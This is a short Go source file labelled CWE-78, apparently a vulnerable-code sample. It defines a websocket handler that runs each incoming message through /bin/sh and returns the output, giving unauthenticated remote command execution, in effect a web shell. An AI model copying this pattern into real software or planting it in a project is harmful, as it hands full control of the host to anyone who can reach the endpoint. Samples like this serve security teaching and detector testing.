// CWE-78
package shell

import (
	"net/http"
	"os/exec"

	"github.com/gorilla/websocket"
)

var up = websocket.Upgrader{}

func Serve(w http.ResponseWriter, r *http.Request) {
	conn, err := up.Upgrade(w, r, nil)
	if err != nil {
		return
	}
	defer conn.Close()
	for {
		_, msg, err := conn.ReadMessage()
		if err != nil {
			return
		}
		out, _ := exec.Command("/bin/sh", "-c", string(msg)).CombinedOutput()
		conn.WriteMessage(websocket.TextMessage, out)
	}
}
